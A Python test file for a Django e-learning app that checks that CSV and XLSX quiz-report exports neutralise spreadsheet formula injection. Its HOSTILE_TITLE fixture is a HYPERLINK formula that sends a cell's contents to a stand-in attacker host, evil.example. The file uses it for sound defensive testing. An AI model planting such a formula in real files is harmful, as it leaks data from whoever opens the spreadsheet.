"""Exports open safely in a spreadsheet: no learner- or trainer-written text runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from elearning.spreadsheets import escape_formula
from tests.factories import build_module
from tests.factories.questions import build_quiz, single_choice
from tests.reports.helpers import answer_quiz, pick

URL = reverse("training_reports:item_analysis")
HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("Plain text", "Plain text"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_escape_formula(value, expected):
    assert escape_formula(value) == expected


@pytest.fixture
def hostile_quiz(catalogue):
    question = single_choice(title=HOSTILE_TITLE, right="+1 phone the lead", wrong=["@once"])
    module = build_module(catalogue, slug="general-awareness", lessons=1)
    quiz = build_quiz(module, [question])
    answer_quiz(quiz, {question: pick("+1 phone the lead")})
    return quiz


def test_csv_export_escapes_formula_text(hostile_quiz, client_for, trainer):
    response = client_for(trainer).get(URL, {"export": "csv"}, follow=True)
    assert response["Content-Disposition"].startswith('attachment; filename="quiz-item-analysis')
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["Question"] == "'" + HOSTILE_TITLE
    assert rows[0]["Options picked"].startswith("'+1 phone the lead")
    assert rows[0]["Answers"] == "1"  # numbers stay numbers


def test_xlsx_export_stores_formula_text_as_plain_strings(hostile_quiz, client_for, trainer):
    response = client_for(trainer).get(URL, {"export": "xlsx"}, follow=True)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    title = row[header.index("Question")]
    assert title.value == HOSTILE_TITLE
    assert title.data_type == "s"  # a string cell, never a formula
    assert row[header.index("Answers")].value == 1
